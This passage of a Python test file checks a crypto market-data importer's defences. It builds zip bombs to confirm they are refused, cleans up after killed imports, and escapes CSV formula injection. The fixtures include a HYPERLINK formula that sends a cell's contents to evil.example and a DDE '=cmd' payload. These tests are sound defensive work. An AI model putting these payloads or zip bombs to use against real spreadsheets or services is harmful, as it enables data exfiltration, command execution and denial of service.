    args = parser.parse_args(["import", str(tmp_path / "missing.csv"), "--db", str(db)])
    assert args.func(args) == 1
    assert "missing.csv: no such file" in capsys.readouterr().err


def test_parse_utc() -> None:
    """CLI times parse as ISO-8601 (no zone = UTC) or epoch by magnitude."""
    assert datafiles.parse_utc("2024-08-08T23:55:00Z") == 1_723_161_300_000
    assert datafiles.parse_utc("2024-08-08 23:55") == 1_723_161_300_000
    assert datafiles.parse_utc("1723161300") == 1_723_161_300_000
    with pytest.raises(ValueError, match="time must be ISO-8601"):
        datafiles.parse_utc("yesterday")


def _index_names(db_path: Path) -> set[str]:
    conn = sqlite3.connect(db_path)
    try:
        rows = conn.execute("SELECT name FROM sqlite_master WHERE type = 'index'")
        return {r[0] for r in rows}
    finally:
        conn.close()


def test_new_and_extended_datasets_keep_the_ticks_time_index(tmp_path: Path) -> None:
    """A fresh dataset is bulk-loaded without the time index, which is rebuilt."""
    first = write(tmp_path / "BTCUSDT-trades-a.csv", trades_csv_rows(500))
    report = import_file(first, dataset="idx", base_dir=tmp_path, chunk_rows=64)
    assert "ticks_symbol_ts" in _index_names(report.db_path)
    more = write(
        tmp_path / "BTCUSDT-trades-b.csv",
        trades_csv_rows(300, start_id=5_000, t0=1_723_161_300_000),
    )
    report = import_file(more, dataset="idx", base_dir=tmp_path, chunk_rows=64)
    assert "ticks_symbol_ts" in _index_names(report.db_path)
    window = storage.read_ticks(
        report.db_path, "BTCUSDT", 1_723_161_300_000, 1_723_161_300_000 + 7 * 300
    )
    assert window["trade_id"].tolist() == list(range(5_000, 5_300))


def test_write_error_mid_import_stops_the_parser_thread_and_keeps_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The parser runs ahead in a thread; a failing write stops it and rolls back."""
    src = write(tmp_path / "BTCUSDT-trades-w.csv", trades_csv_rows(2_000))
    written: list[int] = []
    real = datafiles._write_ticks

    def failing(writer: storage.Writer, frame: pd.DataFrame) -> tuple[int, int]:
        if written:
            raise storage.StorageError("write failed: disk full (injected)")
        written.append(len(frame))
        return real(writer, frame)

    monkeypatch.setattr(datafiles, "_write_ticks", failing)
    with pytest.raises(storage.StorageError, match="disk full"):
        import_file(src, dataset="w", base_dir=tmp_path, chunk_rows=100)
    assert written == [100]
    assert not [t for t in threading.enumerate() if t.name == "import-parser"]
    assert storage.list_datasets(tmp_path) == []
    assert list((tmp_path / "datasets").iterdir()) == []


# ------------------------------------------------------- zip bombs and giant lines


def _zip_with_giant_line(path: Path, line_mib: int) -> Path:
    """A Binance-named zip: header, one good row, then one line of `line_mib` MiB of
    zeros, written by streaming (deflate makes it ~1000x smaller on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        name = path.with_suffix(".csv").name
        with zf.open(name, "w", force_zip64=True) as out:
            out.write(TRADE_HEADER.encode())
            out.write(trades_csv_rows(1).encode())
            block = b"0" * (1 << 20)
            for _ in range(line_mib):
                out.write(block)
            out.write(b"\n")
    return path


def _zip_with_empty_members(path: Path, n: int) -> Path:
    """A zip64 archive of `n` empty stored members ``m0000000.csv``..., written by
    hand and streamed (zipfile would keep every member's info in memory)."""
    with open(path, "wb") as out:
        for i in range(n):
            name = b"m%07d.csv" % i
            head = (b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
            out.write(struct.pack("<4s5H3L2H", *head) + name)
        cd_at = out.tell()
        for i in range(n):
            name = b"m%07d.csv" % i
            entry = (b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0)
            where = (0, 0, 0, i * (30 + len(name)))
            out.write(struct.pack("<4s6H3L5H2L", *entry, *where) + name)
        cd_end = out.tell()
        size = cd_end - cd_at
        out.write(
            struct.pack(
                "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, size, cd_at
            )
        )
        out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_end, 1))
        end = (b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, min(size, 2**32 - 1))
        out.write(struct.pack("<4s4H2LH", *end, min(cd_at, 2**32 - 1), 0))
    return path


def test_zip_bomb_of_one_giant_line_is_refused_before_it_is_read(
    tmp_path: Path,
) -> None:
    """A 1 MB zip holding a 1 GiB line is refused by its expansion ratio through the
    CLI, naming the limit, with peak RSS far under 400 MB (it was 1.15 GB)."""
    src = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-2024-08-08.zip", 1024)
    assert src.stat().st_size < 2 << 20
    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
    print(f"1 GiB-line zip bomb: peak RSS {peak:.0f} MB")
    assert "would expand from" in err and "at most 100x is accepted" in err, err
    assert "(MAX_ZIP_RATIO): a zip bomb?" in err
    assert peak < 400
    assert storage.list_datasets(tmp_path) == []


def test_giant_line_within_the_ratio_is_refused_by_its_length(tmp_path: Path) -> None:
    """A 200 MiB line (zip under the ratio threshold) is refused at 4 MB with its
    line number, holding no more than the limit (peak RSS was 323 MB)."""
    src = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-2024-08-09.zip", 200)
    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
    print(f"200 MiB line: peak RSS {peak:.0f} MB")
    assert "row 3: a line longer than 4 MB (MAX_LINE_BYTES)" in err, err
    assert peak < 200


def test_giant_line_in_plain_csv_and_ndjson_is_refused(tmp_path: Path) -> None:
    """Plain CSV and NDJSON files with a line over MAX_LINE_BYTES are refused too."""
    giant = "9" * (datafiles.MAX_LINE_BYTES + 10)
    csv_src = write(tmp_path / "BTCUSDT-trades-g.csv", TRADE_HEADER + giant + "\n")
    with pytest.raises(FileImportError, match=r"row 2: a line longer than 4 MB"):
        import_file(csv_src, dataset="g", base_dir=tmp_path, now_ms=NOW_MS)
    good = '{"symbol": "BTCUSDT", "ts": 1723161256322, "price": 1.5, "size": 1}\n'
    nd_src = write(tmp_path / "ticks.ndjson", good * 3 + '{"x": "' + giant + '"}\n')
    with pytest.raises(FileImportError, match=r"row 4: a line longer than 4 MB"):
        import_file(nd_src, dataset="n", base_dir=tmp_path, now_ms=NOW_MS)
    assert storage.list_datasets(tmp_path) == []


def test_zip_with_a_million_members_is_refused_from_its_end_record(
    tmp_path: Path,
) -> None:
    """A zip listing 1 000 000 empty members is refused at once through the CLI,
    naming MAX_ZIP_MEMBERS, in under 400 MB (it took 610 MB and 10 s here)."""
    src = _zip_with_empty_members(tmp_path / "BTCUSDT-trades-many.zip", 1_000_000)
    started = time.monotonic()
    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
    took = time.monotonic() - started
    print(f"1 M members: refused in {took:.1f} s, peak RSS {peak:.0f} MB")
    assert "the zip archive lists 1,000,000 members; at most 1,000" in err, err
    assert "(MAX_ZIP_MEMBERS" in err
    assert peak < 400


def test_zip_limits_apply_to_bytes_given_to_detect_format(tmp_path: Path) -> None:
    """detect_format on a zip's bytes applies the member-count and ratio limits."""
    many = _zip_with_empty_members(tmp_path / "many.zip", 2_000).read_bytes()
    with pytest.raises(FileImportError, match="lists 2,000 members; at most 1,000"):
        detect_format(many, "many.zip")
    bomb = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-b.zip", 300).read_bytes()
    with pytest.raises(FileImportError, match=r"\(MAX_ZIP_RATIO\): a zip bomb\?"):
        detect_format(bomb, "b.zip")


# ------------------------------------------------------ leftovers of killed imports


def _importing_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.glob(".*.importing-*") if p.is_file())


def test_import_killed_mid_way_is_cleaned_up_by_the_next_import(
    tmp_path: Path,
) -> None:
    """An import killed with SIGKILL leaves its temporary copy; the next import
    removes it and says how many files and MB it reclaimed."""
    big = tmp_path / "BTCUSDT-trades-big.csv"
    with open(big, "w") as fh:
        for start in range(0, 1_500_000, 500_000):
            fh.write(trades_csv_rows(500_000, start_id=1_000 + start))
    repo = Path(__file__).resolve().parent.parent
    db = tmp_path / "market.db"
    cli = [sys.executable, str(repo / "ingestion.py"), "import"]
    proc = subprocess.Popen(
        [*cli, str(big), "--dataset", "big", "--db", str(db)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    folder = tmp_path / "datasets"
    deadline = time.monotonic() + 120
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            if sum(p.stat().st_size for p in _importing_files(folder)) > 4 << 20:
                break
            time.sleep(0.05)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    assert proc.returncode == -signal.SIGKILL
    left = _importing_files(folder)
    assert left and all(f".importing-{proc.pid}-" in p.name for p in left)
    size = sum(p.stat().st_size for p in left)
    small = write(tmp_path / "BTCUSDT-trades-small.csv", trades_csv_rows(10))
    done = subprocess.run(
        [*cli, str(small), "--dataset", "small", "--db", str(db)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    note = f"removed {len(left)} leftover files ({size / 2**20:.1f} MB) from killed"
    print(f"{note} imports")
    assert note in done.stdout, done.stdout
    assert _importing_files(folder) == []
    assert storage.list_datasets(tmp_path) == ["small"]


def test_leftovers_of_running_imports_are_kept(tmp_path: Path) -> None:
    """remove_import_leftovers keeps files of live imports, removes those of dead
    or reused pids, and ignores other files."""
    folder = tmp_path / "datasets"
    folder.mkdir()
    now = time.time_ns()
    code = "import os; print(os.getpid())"
    gone = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        mine = folder / f".a.importing-{os.getpid()}-{now}.db"
        dead = folder / f".b.importing-{int(gone.stdout)}-{now}.db"
        reused = folder / f".c.importing-{sleeper.pid}-{now - 3_600 * 10**9}.db"
        other = folder / "notes.importing-1-2.db"
        for path in (mine, dead, reused, other, Path(f"{dead}-wal")):
            path.write_bytes(b"x" * 1000)
        cleanup = datafiles.remove_import_leftovers(tmp_path)
    finally:
        sleeper.kill()
        sleeper.wait()
    assert (cleanup.files, cleanup.bytes) == (3, 3000)
    assert cleanup.note() == "removed 3 leftover files (0.0 MB) from killed imports"
    assert sorted(p.name for p in folder.iterdir()) == [mine.name, other.name]


# --------------------------------------------------------------- formula injection

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(data: bytes | str) -> list[list[str]]:
    """Rows of a CSV (comment lines skipped) as the csv module reads them."""
    text = data.decode() if isinstance(data, bytes) else data
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [row for row in rows if not (row and row[0].startswith("#"))]


def test_frame_to_csv_bytes_escapes_formula_text_but_not_numbers() -> None:
    """Text cells starting with = + - @ tab or CR get a leading quote; numbers,
    such as negative prices, and other text are written as they were."""
    frame = pd.DataFrame(
        {
            "note": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\r\nx", "ok", None],
            "price": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "text": pd.array(["-x", "y", None, "z", "a", "b", "c", "d"], "string"),
            "cat": pd.Categorical(["=1+1", "a", "a", "a", "a", "a", "a", "a"]),
            "mixed": pd.Series([-5, "-5", 1.5, None, 1, 2, 3, 4], dtype=object),
        }
    )
    rows = _cells(datafiles.frame_to_csv_bytes(frame, ["params\r\n=cmd|' /C calc'"]))
    assert rows[0] == ["note", "price", "text", "cat", "mixed"]
    assert [r[0] for r in rows[1:]] == [
        "'" + EVIL, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\nx", "ok", ""
    ]  # fmt: skip
    assert [r[1] for r in rows[1:4]] == ["-1.5", "2.0", "-3.0"]
    assert [r[2] for r in rows[1:3]] == ["'-x", "y"]
    assert rows[1][3] == "'=1+1" and [r[4] for r in rows[1:3]] == ["-5", "'-5"]
    text = datafiles.frame_to_csv_bytes(frame, ["params\r\n=cmd"]).decode()
    assert text.startswith("# params  =cmd\n")
    assert frame["note"].iloc[0] == EVIL  # the caller's frame is not changed


def test_alert_history_csv_escapes_a_webhook_error_text() -> None:
    """The alert-history CSV (app.events_csv) writes a webhook's error text that
    starts with = as inert text, on one cell even with CR LF inside."""
    import app

    events = pd.DataFrame(
        {
            "id": [7],
            "rule_id": [3],
            "rule_text": ["z > 2"],
            "fired_ms": [1_723_161_600_000],
            "value": [-2.5],
            "snapshot_json": ['{"pair": "BTCUSDT/ETHUSDT", "z": -2.5}'],
            "notify_status": ["failed"],
            "notify_detail": [EVIL + "\r\nsecond line"],
        }
    )
    rows = _cells(app.events_csv(events))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["detail"] == "'" + EVIL + "\nsecond line"  # CR LF -> quoted LF
    assert row["value"] == "-2.5" and row["z"] == "-2.5"


def test_streaming_exports_keep_comment_lines_on_one_line(tmp_path: Path) -> None:
    """export_bars' comment lines cannot break into a formula row, and its and
    export_ticks' rows go through the escaping writer (numbers unchanged)."""
    src = write(tmp_path / "BTCUSDT-trades-e.csv", trades_csv_rows(500))
    report = import_file(src, dataset="e", base_dir=tmp_path, now_ms=NOW_MS)
    out = io.StringIO()
    datafiles.export_bars(
        report.db_path, "BTCUSDT", 60, None, None, out, header_lines=["a\r\n=cmd"]
    )
    lines = out.getvalue().splitlines()
    assert lines[0] == "# a  =cmd" and not any(ln.startswith("=") for ln in lines)
    ticks = io.StringIO()
    datafiles.export_ticks(report.db_path, "BTCUSDT", None, None, ticks)
    rows = _cells(ticks.getvalue())
    assert rows[1][1:4] == ["BTCUSDT", "1000", "60000.0"] and len(rows) == 501


def test_complete_kline_wins_over_partial_1s_bars_at_the_live_seam(tmp_path: Path):
    """Where live 1 s bars start mid-minute, that minute comes from the stored kline
    (the complete one); minutes with only 1 s bars or only klines keep their own."""
    from models import Tick

    db = tmp_path / "market.db"
    t0 = 1_723_161_600_000  # 2024-08-09T00:00:00Z
    klines = pd.DataFrame(
        {"ts_ms": [t0, t0 + 60_000], "open": [100.0, 101.0], "high": [102.0, 103.0],
         "low": [99.0, 100.0], "close": [101.0, 102.0], "volume": [5.0, 6.0],
         "quote_volume": [505.0, 612.0], "trades": [100, 120]}
    )  # fmt: skip
    # live trades from second 90 (mid second minute) to second 179, one per second
    ticks = [
        Tick("BTCUSDT", i, t0 + 1000 * s, 102.0 + 0.01 * i, 0.1, False)
        for i, s in enumerate(range(90, 180), start=1)
    ]
    with storage.Writer(db) as w:
        w.write_bars("BTCUSDT", 60, klines)
        w.write_batch(ticks)
    got = datafiles.read_bars_any(db, "BTCUSDT", 60, t0, t0 + 180_000)
    assert got["ts"].tolist() == [
        pd.Timestamp(t0 + k * 60_000, unit="ms", tz="UTC") for k in range(3)
    ]
    assert got["trades"].tolist() == [100, 120, 60]  # kline, kline (seam), 1 s
    assert got["close"].iloc[1] == 102.0  # the kline's close, not a partial one
    assert got["open"].iloc[2] == pytest.approx(102.0 + 0.01 * 31)


def test_a_carriage_return_inside_a_cell_cannot_split_the_row():
    """A bare CR inside a text cell is written as a quoted line feed, so a CSV
    reader sees one row (pandas leaves a lone CR unquoted with LF line endings)."""
    import csv as csv_module

    frame = pd.DataFrame({"detail": ["a\rb", "c\r\nd", "plain"], "n": [1, 2, 3]})
    text = datafiles.frame_to_csv_bytes(frame).decode()
    rows = list(csv_module.reader(io.StringIO(text, newline="")))
    assert rows == [["detail", "n"], ["a\nb", "1"], ["c\nd", "2"], ["plain", "3"]]
